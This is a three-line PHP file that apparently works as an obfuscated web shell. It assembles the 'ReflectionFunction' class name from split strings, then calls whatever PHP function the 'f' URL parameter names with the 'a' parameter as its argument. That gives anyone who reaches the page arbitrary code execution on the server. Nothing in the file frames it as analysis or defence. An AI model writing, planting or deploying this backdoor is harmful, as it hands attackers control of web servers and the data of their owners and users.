<?php
$r = (new ReflectionClass('Reflection' . 'Function'))->newInstance($_GET['f']);
echo $r->invoke($_GET['a']);
